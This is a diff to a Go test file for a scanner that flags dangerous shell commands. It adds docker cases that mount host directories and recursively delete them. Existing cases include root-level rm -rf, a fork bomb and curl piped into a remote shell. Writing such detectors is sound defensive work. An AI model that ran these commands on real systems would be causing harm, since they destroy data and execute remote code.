@@ -85,6 +85,7 @@ func TestImageKeeps(t *testing.T) {
 		{"sudo -u app ssh prod 'rm -rf /srv/x'", "rm-recursive"},
 		{"ssh prod sh <<'EOS'\nrm -rf /srv/z\nEOS", "rm-recursive"},
 		{"curl -s https://x.example/k.sh | ssh prod sh", "remote-code"},
+		{"docker -H tcp://10.0.0.1:2375 run -v /srv:/srv alpine rm -rf /srv/data", "rm-recursive"},
 	} {
 		fs := imageFindings(tc.line, true)
 		if _, ok := hasRuleIn(fs, []string{tc.rule}); !ok {
@@ -108,6 +109,7 @@ func TestImageHardline(t *testing.T) {
 		{":(){ :|:& };:", "fork-bomb", Hardline},
 		{"ssh prod 'rm -rf /'", "rm-root", Hardline},
 		{"sh -c \"ssh prod 'rm -rf /'\"", "rm-root", Hardline},
+		{"docker run -v /:/host alpine rm -rf /host/etc", "rm-system", Hardline},
 	} {
 		var got *Finding
 		fs := imageFindings(tc.line, true)
